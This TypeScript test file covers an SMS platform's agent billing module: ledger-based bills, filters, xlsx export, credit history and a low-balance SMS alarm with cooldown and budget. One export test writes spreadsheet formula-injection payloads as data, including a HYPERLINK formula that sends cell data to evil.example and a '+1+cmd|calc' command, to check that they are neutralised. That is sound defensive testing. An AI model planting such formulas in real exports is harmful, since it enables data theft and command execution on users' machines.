/**
 * Own bill, balance figures, credit history and credit alarm (server/modules/bills,
 * docs/api-bills.md): bill rows are ledger rows, the filters, the export, every rule and message of
 * the alarm form, and the alarm firing once per crossing, re-arming, and its SMS going over the
 * dispatch pipeline. On PGlite and on PostgreSQL when TEST_DATABASE_URL is set.
 */
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { Dispatcher } from '../../server/modules/dispatch/dispatcher';
import { FakeLink } from '../fixtures/fake-smsc';
import { backends, useServer, type Client, type TestServer } from './harness';
import { accountId, as, balance, cli, db, ledgerViolations, queuedAt } from './send-helpers';
import alarmForm from '../../schemas/forms/credit-alarm.json';

const AMOUNT_MSG = alarmForm.properties.alarmAmount.errorMessage.pattern;
const MAX_MSG = alarmForm.properties.alarmAmount.errorMessage.not;
const PHONE_MSG = alarmForm.properties.alarmPhone.errorMessage.pattern;
const DUP_MSG = alarmForm.properties.alarmPhone.errorMessage.format;

async function ledgerOf(s: TestServer, clientid: string) {
  const id = await accountId(s, clientid);
  return db(s)
    .selectFrom('ledger')
    .selectAll()
    .where('account_id', '=', id)
    .where('amount', '<>', '0')
    .orderBy('id', 'desc')
    .execute();
}

async function events(s: TestServer, clientid: string) {
  return db(s)
    .selectFrom('credit_alarm_events')
    .selectAll()
    .where('account_id', '=', await accountId(s, clientid))
    .orderBy('id')
    .execute();
}

const today = (s: TestServer) => new Date(s.clock.now().getTime() + 8 * 3600_000).toISOString().slice(0, 10);

describe.each(backends)('bills (%s)', (backend) => {
  const t = useServer(backend, { build: { alarmEveryMs: 0 } });
  let agent1: Client;

  it('the own bill is the ledger: one row per ledger row, newest first, with labels', async () => {
    const { server } = t;
    agent1 = await as(server, 'agent1');
    // an expense (sub-account recharge with an order number) and a credit raise by the operator CLI
    const rc = await agent1.post('/api/client/recharge', {
      clientId: 'client1',
      amount: '10.25',
      requestId: 'ORD-own-1',
    });
    expect(rc.body.code).toBe(0);
    expect((await cli(server, 'agent-credit', 'agent1', '1000', '临时提额')).code).toBe(0);

    const ledger = await ledgerOf(server, 'agent1');
    const r = await agent1.post('/api/finance/bill/self', { currentPage: 1, pageRowCount: 200 });
    expect(r.body.code).toBe(0);
    expect(r.body.data.totalCount).toBe(ledger.length);
    expect(r.body.data.list.map((x: any) => x.id)).toEqual(ledger.map((l) => l.id));
    const [credit, recharge] = r.body.data.list;
    expect(credit).toMatchObject({
      rownum: 1,
      financial_type: 0,
      financial_type_str: '入账',
      payment_type: 9,
      payment_type_str: '提升额度',
      amount_str: '1000.00',
      remark: '临时提额',
    });
    // a recharge names the sub-account (its request id is a resubmit guard, not an order number: not shown)
    expect(recharge).toMatchObject({
      rownum: 2,
      financial_type: 1,
      financial_type_str: '出账',
      payment_type: 12,
      payment_type_str: '子账户充值',
      amount_str: '-10.25',
      order_id: '',
      counterpart: 'client1（苏州好易购电子商务有限公司）',
      remark: '子账户充值 client1（苏州好易购电子商务有限公司）',
      admin_name: 'agent1',
      paymentId: '',
    });
    // the agent's own note follows the name; a rollback names the sub-account too
    expect(
      (await agent1.post('/api/client/recharge', { clientId: 'client1', amount: '1.00', remark: '11月套餐' })).body
        .code,
    ).toBe(0);
    expect((await agent1.post('/api/client/rollback', { clientId: 'client1', amount: '1.00' })).body.code).toBe(0);
    const [back, noted] = (await agent1.post('/api/finance/bill/self', { currentPage: 1, pageRowCount: 2 })).body.data
      .list;
    expect(noted).toMatchObject({
      payment_type_str: '子账户充值',
      amount_str: '-1.00',
      remark: '子账户充值 client1（苏州好易购电子商务有限公司）：11月套餐',
    });
    expect(back).toMatchObject({
      payment_type_str: '子账户回退',
      amount_str: '1.00',
      counterpart: 'client1（苏州好易购电子商务有限公司）',
      remark: '子账户回退 client1（苏州好易购电子商务有限公司）',
    });
    // every row traceable: its id is a ledger row of this account with the same amount
    for (const row of r.body.data.list) expect(ledger.find((l) => l.id === row.id)?.amount).toBe(row.amount_str);

    const data = await agent1.get('/api/finance/bill/data');
    expect(data.body.data).toEqual({
      available_line: await balance(server, 'agent1'),
      balance: await balance(server, 'agent1'),
    });
  });

  it('filters: financial type, payment type, order number, days; bad values are refused', async () => {
    const { server } = t;
    const out = await agent1.post('/api/finance/bill/self', { financial_type: 1, pageRowCount: 200 });
    expect(out.body.data.list.length).toBeGreaterThan(0);
    expect(out.body.data.list.every((x: any) => x.amount_str.startsWith('-'))).toBe(true);
    const inc = await agent1.post('/api/finance/bill/self', { financial_type: 0, pageRowCount: 200 });
    expect(inc.body.data.list.every((x: any) => !x.amount_str.startsWith('-'))).toBe(true);
    expect(out.body.data.totalCount + inc.body.data.totalCount).toBe((await ledgerOf(server, 'agent1')).length);

    const credit = await agent1.post('/api/finance/bill/self', { payment_type: 9 });
    expect(credit.body.data.list.map((x: any) => x.payment_type)).toEqual([9]);
    const order = await agent1.post('/api/finance/bill/self', { order_id: 'ORD-own-1' });
    expect(order.body.data.list.map((x: any) => x.amount_str)).toEqual(['-10.25']);
    const day = today(server);
    const todays = await agent1.post('/api/finance/bill/self', {
      start_time_day: day,
      end_time_day: day,
      pageRowCount: 200,
    });
    expect(todays.body.data.totalCount).toBeGreaterThanOrEqual(2);
    const future = await agent1.post('/api/finance/bill/self', { start_time_day: '2099-01-01' });
    expect(future.body.data).toMatchObject({ list: [], totalCount: 0 });

    expect((await agent1.post('/api/finance/bill/self', { start_time_day: '2026-02-31' })).body).toMatchObject({
      code: 400,
      msg: '日期格式不正确',
    });
    expect(
      (await agent1.post('/api/finance/bill/self', { start_time_day: '2026-03-02', end_time_day: '2026-03-01' })).body,
    ).toMatchObject({
      code: 400,
      msg: '结束日期不能早于开始日期',
    });
    // the order number is matched literally: LIKE wildcards find nothing
    expect((await agent1.post('/api/finance/bill/self', { order_id: '%' })).body.data.totalCount).toBe(0);
    expect((await agent1.post('/api/finance/bill/self', { order_id: '_RD-own-1' })).body.data.totalCount).toBe(0);
    expect((await agent1.post('/api/finance/bill/self', { financial_type: 7 })).body.code).toBe(400);
    expect((await agent1.post('/api/finance/bill/self', { payment_type: 'x' })).body.code).toBe(400);

    // agents only
    const client1 = await as(server, 'client1');
    expect((await client1.post('/api/finance/bill/self', {})).body.code).toBe(403);
    expect((await client1.get('/api/finance/agentBalanceAlarm/get')).body.code).toBe(403);
  });

  it('exports the filtered rows as xlsx with the entity titles; none → 当前条件没有数据，无法导出', async () => {
    const { server } = t;
    const r = await agent1.post('/api/finance/bill/self/export', { financial_type: 1 });
    expect(r.status).toBe(200);
    expect(String(r.headers['content-type'])).toContain('spreadsheetml');
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(r.raw.rawPayload as any);
    const ws = wb.worksheets[0];
    expect((ws.getRow(1).values as string[]).slice(1)).toEqual([
      '序号',
      '流水编号',
      '收支类型',
      '业务类型',
      '金额(元)',
      '余额(元)',
      '对方账户',
      '订单号',
      '支付单号',
      '操作人',
      '备注',
      '时间',
    ]);
    const expense = (await ledgerOf(server, 'agent1')).filter((l) => l.amount.startsWith('-'));
    expect(ws.rowCount - 1).toBe(expense.length);
    expect(ws.getRow(2).getCell(2).value).toBe(expense[0].id);

    const none = await agent1.post('/api/finance/bill/self/export', { start_time_day: '2099-01-01' });
    expect(none.body).toMatchObject({ code: 500, msg: '当前条件没有数据，无法导出' });
  });

  it('exported cells that a spreadsheet would take as a formula get a single quote; amounts stay as they are', async () => {
    const { server } = t;
    const evil = [
      '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
      '+1+cmd|calc',
      '-2+3',
      '@SUM(1,1)',
      '\t=1+1',
      '\r=1+1',
    ];
    for (const [i, requestId] of evil.entries()) {
      const rc = await agent1.post('/api/client/recharge', {
        clientId: 'client1',
        amount: '0.01',
        requestId: `${requestId}${i}`,
        remark: requestId.trim(),
      });
      expect(rc.body.code).toBe(0);
    }
    const r = await agent1.post('/api/finance/bill/self/export', { financial_type: 1 });
    expect(r.status).toBe(200);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(r.raw.rawPayload as any);
    const ws = wb.worksheets[0];
    const orderIds: unknown[] = [];
    const amounts: unknown[] = [];
    const remarks: unknown[] = [];
    ws.eachRow((row, n) => {
      if (n === 1) return;
      orderIds.push(row.getCell(8).value);
      amounts.push(row.getCell(5).value);
      remarks.push(row.getCell(11).value);
      // no cell is a formula
      row.eachCell((c) => expect(c.formula ?? null).toBeNull());
    });
    // (the form trims the order number: a leading tab / CR arrives as the formula behind it; safeCell quotes both, tests/server/export-cells.test.ts)
    // a recharge's request id (the client's) is not an order number and is not written; its remark follows the sub-account's name
    for (const [i, requestId] of evil.entries()) expect(orderIds).not.toContain(`'${requestId.trim()}${i}`);
    for (const requestId of evil)
      expect(remarks).toContain(`子账户充值 client1（苏州好易购电子商务有限公司）：${requestId.trim()}`);
    expect([...orderIds, ...remarks].some((v) => typeof v === 'string' && /^[=+\-@\t\r]/.test(v))).toBe(false);
    // negative amounts are numbers, not formulas: unchanged
    expect(amounts).toContain('-0.01');
    void server;
  });

  it('credit history: raises and cuts (kinds 9 / 10, the agent-credit CLI), each period ending at the next', async () => {
    const { server } = t;
    server.clock.advance(60_000);
    expect((await cli(server, 'agent-credit', 'agent1', '-200')).code).toBe(0);
    const r = await agent1.get('/api/finance/creditHistories/list');
    expect(r.body.code).toBe(0);
    const [cut, raise] = r.body.data.list;
    expect(r.body.data.totalCount).toBe(2);
    expect(cut).toMatchObject({
      rownum: 1,
      amount: '-200.00',
      payment_type: 10,
      payment_type_str: '降低额度',
      endTIme: '',
    });
    expect(raise).toMatchObject({ rownum: 2, amount: '1000.00', payment_type: 9, endTIme: cut.beginTime });
    // page 2 of size 1: the older row, still ended by the newer one
    const p2 = await agent1.get('/api/finance/creditHistories/list?currentPage=2&pageRowCount=1');
    expect(p2.body.data.list).toEqual([{ ...raise, rownum: 2 }]);
    expect((await agent1.get('/api/finance/creditHistories/list?currentPage=x')).body.code).toBe(400);
  });

  it('credit alarm form: every rule and message of the spec', async () => {
    const edit = (p: Record<string, unknown>) => agent1.post('/api/finance/agentBalanceAlarm/edit', p);
    for (const bad of ['', 'abc', '1.5', '-1', ' '])
      expect((await edit({ alarmAmount: bad, alarmPhone: '13800138000' })).body).toMatchObject({
        code: 400,
        msg: AMOUNT_MSG,
      });
    expect((await edit({ alarmPhone: '13800138000' })).body).toMatchObject({ code: 400, msg: AMOUNT_MSG });
    for (const big of ['1000001', '2000000', '99999999', '00001000001'])
      expect((await edit({ alarmAmount: big, alarmPhone: '13800138000' })).body).toMatchObject({
        code: 400,
        msg: MAX_MSG,
      });
    for (const bad of [
      '123',
      '1380013800',
      '23800138000',
      '13800138000,',
      '13800138000，13900139000',
      '13800138000;13900139000',
    ])
      expect((await edit({ alarmAmount: '100', alarmPhone: bad })).body).toMatchObject({ code: 400, msg: PHONE_MSG });
    expect((await edit({ alarmAmount: '100', alarmPhone: '13800138000,13900139000,13800138000' })).body).toMatchObject({
      code: 400,
      msg: DUP_MSG,
    });
    // an amount without a phone cannot remind anyone
    expect((await edit({ alarmAmount: '100', alarmPhone: '' })).body).toMatchObject({ code: 400, msg: PHONE_MSG });
    expect((await edit({ alarmAmount: '100', alarmPhone: '13800138000', agentId: 'agent0' })).body).toMatchObject({
      code: 403,
      msg: alarmForm['x-messages'].notOwn,
    });
    expect(MAX_MSG).toBe('提醒额度不能大于100万');
    expect(AMOUNT_MSG).toBe('提醒额度为大于0的整数，且不能为空');
    expect([PHONE_MSG, DUP_MSG]).toEqual(['手机号码格式不正确', '手机号码重复']);

    // at most 5 phones, and only the account's own (verified) mobile: no free SMS to anyone else
    const six = Array.from({ length: 6 }, (_, i) => `1380013800${i}`).join(',');
    expect((await edit({ alarmAmount: '100', alarmPhone: six })).body).toMatchObject({
      code: 400,
      msg: '最多填写5个手机号码',
    });
    expect((await edit({ alarmAmount: '100', alarmPhone: '13800138001,13900139000' })).body).toMatchObject({
      code: 400,
      msg: alarmForm['x-messages'].phoneNotVerified,
    });
    expect((await edit({ alarmAmount: '100', alarmPhone: '13900139000' })).body).toMatchObject({
      code: 400,
      msg: alarmForm['x-messages'].phoneNotVerified,
    });
    const max = await edit({ alarmAmount: '1000000', alarmPhone: '13800138001', agentId: 'agent1' });
    expect(max.body).toMatchObject({
      code: 0,
      msg: alarmForm['x-messages'].saved,
      data: { agentId: 'agent1', alarmAmount: '1000000', alarmPhone: '13800138001' },
    });
    // 0 = no reminder, phones optional
    const off = await edit({ alarmAmount: '0', alarmPhone: '' });
    expect(off.body.data).toMatchObject({ alarmAmount: '0', alarmPhone: '' });
    const got = await agent1.get('/api/finance/agentBalanceAlarm/get?customerInfo=agent1');
    expect(got.body.data).toMatchObject({ agentId: 'agent1', alarmAmount: '0', alarmPhone: '' });
    const acct = await agent1.get('/api/finance/agentBalanceAlarm/getAcct');
    expect(acct.body.data).toMatchObject({ agentId: 'agent1', balance: await balance(t.server, 'agent1') });
  });

  it('fires once per crossing, re-arms when the balance is back, and its SMS goes over SMPP', async () => {
    const { server } = t;
    const agent0 = await as(server, 'agent0');
    const start = Number(await balance(server, 'agent0'));
    const threshold = start - 1000;
    const set = await agent0.post('/api/finance/agentBalanceAlarm/edit', {
      alarmAmount: String(threshold),
      alarmPhone: '13800138000',
    });
    expect(set.body.code).toBe(0);
    expect(set.body.data.armed).toBe(1);

    const credit = async (amount: string) => expect((await cli(server, 'agent-credit', 'agent0', amount)).code).toBe(0);
    await credit('-900'); // start - 900: above
    expect(await events(server, 'agent0')).toHaveLength(0);
    await credit('-200'); // start - 1100: below → one alarm
    expect(await events(server, 'agent0')).toHaveLength(1);
    await credit('-100'); // still below: nothing more
    const rc = await agent0.post('/api/client/recharge', { clientId: 'client0', amount: '1.00' });
    expect(rc.body.code).toBe(0);
    expect(await events(server, 'agent0')).toHaveLength(1);
    await credit('1200'); // start: back above → re-armed, no SMS
    expect(await events(server, 'agent0')).toHaveLength(1);
    expect((await agent0.get('/api/finance/agentBalanceAlarm/get')).body.data.armed).toBe(1);
    // five concurrent recharges of a sub-account cross once: exactly one more alarm
    const five = await Promise.all(
      Array.from({ length: 5 }, (_, i) =>
        agent0.post('/api/client/recharge', { clientId: 'client0', amount: '300.00', requestId: `alarm-${i}` }),
      ),
    );
    expect(five.map((x) => x.body.code)).toEqual([0, 0, 0, 0, 0]);
    const ev = await events(server, 'agent0');
    expect(ev).toHaveLength(2);
    expect(ev[0].alarm_amount).toBe(`${threshold}.00`);
    expect(Number(ev[1].balance)).toBeLessThan(threshold);
    expect(await ledgerViolations(server)).toEqual([]);

    // the job turns each crossing into a system task, once, whichever process runs it; the second
    // crossing is within the 24 h cooldown of the first alarm: recorded, no SMS
    const sent = await Promise.all([
      server.app.services.bills.deliverAlarms(),
      server.app.services.bills.deliverAlarms(),
    ]);
    expect(sent[0] + sent[1]).toBe(2);
    expect(await server.app.services.bills.deliverAlarms()).toBe(0);
    const handled = await events(server, 'agent0');
    expect(handled.map((e) => [e.task_id !== null, e.sent_at !== null, e.sms_count, e.skipped])).toEqual([
      [true, true, 1, ''],
      [false, true, 0, 'cooldown'],
    ]);
    const after = handled.slice(0, 1);
    const msgs = await db(server)
      .selectFrom('sms_messages as m')
      .select(['m.id', 'm.phone', 'm.state', 'm.price', queuedAt.as('next_at')])
      .where(
        'm.task_id',
        'in',
        after.map((e) => e.task_id!),
      )
      .orderBy('m.id')
      .execute();
    expect(msgs.map((m) => m.phone).sort()).toEqual(['13800138000']);
    expect(msgs.every((m) => m.state === 0 && m.next_at !== null && Number(m.price) === 0)).toBe(true);
    const task = await db(server)
      .selectFrom('sms_tasks')
      .selectAll()
      .where('id', '=', after[0].task_id!)
      .executeTakeFirstOrThrow();
    expect(task.content).toContain('【云讯通】');
    expect(task.content).toContain(`提醒额度${threshold}元`);
    const balanceBefore = await balance(server, 'agent0');

    // over the SMPP link (an in-memory SMSC): delivered, recorded, nothing charged or refunded
    const link = new FakeLink(() => 'accept');
    const d = new Dispatcher(server.app.ctx, link, { maintenanceMs: 0 });
    while ((await d.dispatchOnce()) > 0);
    await link.flushReceipts();
    await d.applyOnce();
    const toPhones = link.requests.filter((q) => msgs.some((m) => m.id === q.ref));
    expect(toPhones).toHaveLength(1);
    expect(toPhones[0].text).toContain('请及时充值');
    const done = await db(server)
      .selectFrom('sms_messages')
      .select('state')
      .where(
        'task_id',
        'in',
        after.map((e) => e.task_id!),
      )
      .execute();
    expect(done.every((m) => m.state === 3)).toBe(true);
    expect(await balance(server, 'agent0')).toBe(balanceBefore);
    expect(await ledgerViolations(server)).toEqual([]);
  });

  it('a threshold saved above the balance sends nothing until the balance has come back and falls again', async () => {
    const { server } = t;
    const agent0 = await as(server, 'agent0');
    const before = (await events(server, 'agent0')).length;
    const high = String(Math.floor(Number(await balance(server, 'agent0'))) + 500);
    const r = await agent0.post('/api/finance/agentBalanceAlarm/edit', {
      alarmAmount: high,
      alarmPhone: '13800138000',
    });
    expect(r.body.data.armed).toBe(0);
    await cli(server, 'agent-credit', 'agent0', '-1');
    expect(await events(server, 'agent0')).toHaveLength(before);
    await cli(server, 'agent-credit', 'agent0', '1000');
    await cli(server, 'agent-credit', 'agent0', '-1000');
    expect(await events(server, 'agent0')).toHaveLength(before + 1);
    // 0 turns it off
    await agent0.post('/api/finance/agentBalanceAlarm/edit', { alarmAmount: '0' });
    await cli(server, 'agent-credit', 'agent0', '1000');
    await cli(server, 'agent-credit', 'agent0', '-1000');
    expect(await events(server, 'agent0')).toHaveLength(before + 1);
  });
  it('the recharge / rollback attack: 10 crossings send one alarm SMS per cooldown, to the own mobile only, within the daily budget', async () => {
    const { server } = t;
    const bills = server.app.services.bills;
    await bills.deliverAlarms();
    // 24 h later: no cooldown left from the tests above
    server.clock.advance(25 * 3600_000);
    const agent0 = await as(server, 'agent0');
    const attackPhones = Array.from({ length: 20 }, (_, i) => `186${String(i).padStart(8, '0')}`).join(',');
    expect(
      (await agent0.post('/api/finance/agentBalanceAlarm/edit', { alarmAmount: '100', alarmPhone: attackPhones })).body
        .code,
    ).toBe(400);
    // a row saved before this rule (20 foreign phones): the job sends to the own mobile only
    const id = await accountId(server, 'agent0');
    const frac = Math.ceil(Number(await balance(server, 'agent0'))) - Number(await balance(server, 'agent0'));
    if (frac > 0.001) expect((await cli(server, 'agent-credit', 'agent0', frac.toFixed(2))).code).toBe(0);
    // the balance sits at the threshold: a 1.00 recharge of a sub-account falls below, its rollback re-arms
    const threshold = Number(await balance(server, 'agent0'));
    expect(Number.isInteger(threshold)).toBe(true);
    await db(server)
      .updateTable('credit_alarms')
      .set({ alarm_amount: String(threshold), alarm_phones: `${attackPhones},13800138000`, armed: true })
      .where('account_id', '=', id)
      .execute();
    const before = (await events(server, 'agent0')).length;
    const statsBefore = await bills.alarmStats();
    for (let i = 0; i < 10; i++) {
      expect((await agent0.post('/api/client/recharge', { clientId: 'client0', amount: '1.00' })).body.code).toBe(0);
      expect((await agent0.post('/api/client/rollback', { clientId: 'client0', amount: '1.00' })).body.code).toBe(0);
      await bills.deliverAlarms();
    }
    const ev = (await events(server, 'agent0')).slice(before);
    expect(ev).toHaveLength(10); // every crossing is recorded …
    expect(ev.filter((e) => e.sms_count > 0)).toHaveLength(1); // … one sends
    expect(ev.filter((e) => e.skipped === 'cooldown')).toHaveLength(9);
    const task = ev.find((e) => e.task_id !== null)!.task_id!;
    const phones = await db(server).selectFrom('sms_messages').select('phone').where('task_id', '=', task).execute();
    expect(phones.map((p) => p.phone)).toEqual(['13800138000']);
    const stats = await bills.alarmStats();
    expect(stats.sms - statsBefore.sms).toBe(1);
    expect(stats.skipped.cooldown - statsBefore.skipped.cooldown).toBe(9);
    expect(stats.budget).toBe(1000);
    // the operator sees the same
    const shown = await cli(server, 'alarm-stats');
    expect(shown.code).toBe(0);
    expect(shown.lines.join('\n')).toMatch(/已发短信[\s\S]*预算/);
    expect(await ledgerViolations(server)).toEqual([]);

    // past the cooldown, but the system budget is spent: recorded, skipped, logged
    server.clock.advance(25 * 3600_000);
    const cfg = server.app.ctx.config;
    const saved = cfg.alarmSmsDaily;
    cfg.alarmSmsDaily = 0;
    const again = await as(server, 'agent0'); // the session did not live through the day
    try {
      expect((await again.post('/api/client/recharge', { clientId: 'client0', amount: '1.00' })).body.code).toBe(0);
      expect((await again.post('/api/client/rollback', { clientId: 'client0', amount: '1.00' })).body.code).toBe(0);
      await bills.deliverAlarms();
      expect((await events(server, 'agent0')).at(-1)).toMatchObject({ sms_count: 0, skipped: 'budget', task_id: null });
    } finally {
      cfg.alarmSmsDaily = saved;
    }
    // within the budget again: the next crossing sends
    expect((await again.post('/api/client/recharge', { clientId: 'client0', amount: '1.00' })).body.code).toBe(0);
    expect((await again.post('/api/client/rollback', { clientId: 'client0', amount: '1.00' })).body.code).toBe(0);
    await bills.deliverAlarms();
    expect((await events(server, 'agent0')).at(-1)).toMatchObject({ sms_count: 1, skipped: '' });
  });
});
